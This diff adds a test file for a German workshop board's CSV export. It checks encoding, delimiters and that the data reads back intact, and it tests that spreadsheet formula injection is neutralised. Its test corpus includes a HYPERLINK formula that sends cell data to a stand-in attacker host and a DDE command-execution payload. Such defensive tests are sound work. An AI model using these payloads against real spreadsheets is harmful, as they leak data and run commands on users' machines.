@@ -1,0 +1,180 @@
+import { parse } from 'csv-parse/sync';
+import { describe, expect, it } from 'vitest';
+import { sampleExportInput } from '../../../../tests/helpers/sample-export';
+import { createCard } from '../board/cards';
+import { createCluster } from '../board/clusters';
+import { DEFAULT_SETTINGS } from '../session/session';
+import { buildExportModel } from './build';
+import { writeCsv } from './csv';
+import type { ExportModel } from './model';
+
+/**
+ * Texts that spreadsheet programs would run as formulas (OWASP "CSV
+ * Injection"), and texts that break naive CSV writers.
+ */
+const FORMULAS = [
+	'=HYPERLINK("http://evil.example/?"&A1;"Klick")',
+	'=1+1',
+	'+49 30 1234567',
+	'-2+3',
+	'@SUM(A1:A9)',
+	'\t=cmd|" /C calc"!A0',
+	'\r=1+1',
+	'\n=1+1'
+];
+const AWKWARD = [
+	'Komma, Semikolon; und "Anführungszeichen"',
+	'Zwei\nZeilen',
+	'Äpfel – Öl – Übermaß – ß'
+];
+
+function csvRows(body: string | Uint8Array, delimiter = ','): string[][] {
+	const text = typeof body === 'string' ? body : new TextDecoder().decode(body);
+	return parse(text, { bom: true, delimiter, relax_column_count: false }) as string[][];
+}
+
+/** A named export of the Musterstadt board whose texts, names and titles are the corpus above. */
+function hostileModel(): ExportModel {
+	const input = sampleExportInput();
+	const texts = [...FORMULAS, ...AWKWARD];
+	texts.forEach((text, i) =>
+		createCard(input.board, {
+			id: `x${i}`,
+			area: 'challenges',
+			authorId: `evil${i}`,
+			authorGroup: 'g-evil',
+			createdAt: input.session.createdAt + i,
+			text
+		})
+	);
+	createCluster(
+		input.board,
+		{ id: 'k-evil', area: 'challenges', title: '=cluster()', createdAt: 9 },
+		['x0']
+	);
+	return buildExportModel(
+		{
+			...input,
+			session: {
+				...input.session,
+				title: '@Fokusgruppe',
+				settings: {
+					...DEFAULT_SETTINGS,
+					stakeholderGroups: [
+						...DEFAULT_SETTINGS.stakeholderGroups,
+						{ id: 'g-evil', label: '-Gruppe+1' }
+					]
+				}
+			},
+			participants: [
+				...input.participants,
+				...texts.map((name, i) => ({
+					id: `evil${i}`,
+					sessionId: input.session.id,
+					name,
+					group: 'g-evil',
+					role: 'participant' as const,
+					createdAt: input.session.createdAt,
+					removedAt: null
+				}))
+			]
+		},
+		{ locale: 'de', named: true, delimiter: ',' }
+	);
+}
+
+describe('the CSV export', () => {
+	it('is UTF-8 with a byte order mark and CRLF line ends, one row per card', () => {
+		const model = buildExportModel(sampleExportInput(), {
+			locale: 'de',
+			named: false,
+			delimiter: ','
+		});
+		const file = writeCsv(model, { delimiter: ',' });
+		expect(file.extension).toBe('csv');
+		expect(file.contentType).toMatch(/^text\/csv; charset=utf-8/);
+		const body = file.body as string;
+		expect(body.startsWith('\uFEFF')).toBe(true);
+		expect(body.endsWith('\r\n')).toBe(true);
+		expect(body.replace(/\r\n/g, '').includes('\n')).toBe(false);
+		expect(csvRows(body)).toHaveLength(1 + 30);
+	});
+
+	it('reads back, with an independent CSV reader, as the board: texts, areas, clusters, groups and dots', () => {
+		const model = buildExportModel(sampleExportInput(), {
+			locale: 'de',
+			named: false,
+			delimiter: ','
+		});
+		const [header, ...rows] = csvRows(writeCsv(model, { delimiter: ',' }).body);
+		expect(header).toEqual([
+			'Sitzung',
+			'Bereich',
+			'Cluster',
+			'Text',
+			'Akteursgruppe (Autor·in)',
+			'Erstellt (UTC)',
+			'Punkte gesamt',
+			'Punkte: Runde 1',
+			...model.stakeholderGroups.map((g) => `Punkte von: ${g.label}`),
+			'Karten-ID'
+		]);
+		const clusters = new Map(model.clusters.map((c) => [c.id, c.title]));
+		const groups = new Map(model.stakeholderGroups.map((g) => [g.id, g.label]));
+		const areas = new Map(model.areas.map((a) => [a.id, a.title]));
+		expect(rows).toEqual(
+			model.cards.map((card) => [
+				'Faire Beschaffung – Fokusgruppe Musterstadt',
+				areas.get(card.area),
+				card.clusterId ? clusters.get(card.clusterId) : '',
+				card.text,
+				card.authorGroup ? groups.get(card.authorGroup) : '',
+				new Date(card.createdAt).toISOString().slice(0, 19).replace('T', ' '),
+				String(card.dots.r1),
+				String(card.dots.r1),
+				...model.stakeholderGroups.map((g) => String(card.dotsByGroup[g.id])),
+				card.id
+			])
+		);
+		// The sample's round: 50 dots in all, all of them on the board.
+		expect(rows.reduce((sum, row) => sum + Number(row[6]), 0)).toBe(50);
+		expect(
+			rows.some((row) => row[3]!.includes('„Faire Beschaffung“') || row[3]!.includes('ü'))
+		).toBe(true);
+	});
+
+	it('offers a semicolon-separated variant for German Excel', () => {
+		const model = buildExportModel(sampleExportInput(), {
+			locale: 'de',
+			named: false,
+			delimiter: ';'
+		});
+		const body = writeCsv(model, { delimiter: ';' }).body as string;
+		expect(body.split('\r\n')[0]).toMatch(/^\uFEFFSitzung;Bereich;Cluster;Text;/);
+		const rows = csvRows(body, ';');
+		expect(rows.slice(1).map((r) => r[3])).toEqual(model.cards.map((c) => c.text));
+	});
+
+	it('neutralises formulas in card texts, names, cluster titles, group labels and the title, and keeps every other text exact', () => {
+		const model = hostileModel();
+		for (const delimiter of [',', ';'] as const) {
+			const [header, ...rows] = csvRows(writeCsv(model, { delimiter }).body, delimiter);
+			const column = (name: string) => header!.indexOf(name);
+			expect(column('Autor·in')).toBeGreaterThan(0);
+			const byId = new Map(rows.map((row) => [row[row.length - 1], row]));
+			[...FORMULAS, ...AWKWARD].forEach((text, i) => {
+				const row = byId.get(`x${i}`)!;
+				const expected = FORMULAS.includes(text) ? `'${text}` : text;
+				expect(row[column('Text')], `text ${JSON.stringify(text)}`).toBe(expected);
+				expect(row[column('Autor·in')], `name ${JSON.stringify(text)}`).toBe(expected);
+				expect(row[column('Akteursgruppe (Autor·in)')]).toBe("'-Gruppe+1");
+				expect(row[0]).toBe("'@Fokusgruppe");
+			});
+			expect(byId.get('x0')![column('Cluster')]).toBe("'=cluster()");
+			expect(header).toContain('Punkte von: -Gruppe+1');
+			// No cell a spreadsheet would evaluate is left anywhere in the file.
+			for (const cell of [...header!, ...rows.flat()])
+				expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+@\t\r\n]|^-(?!\d+$)/);
+		}
+	});
+});
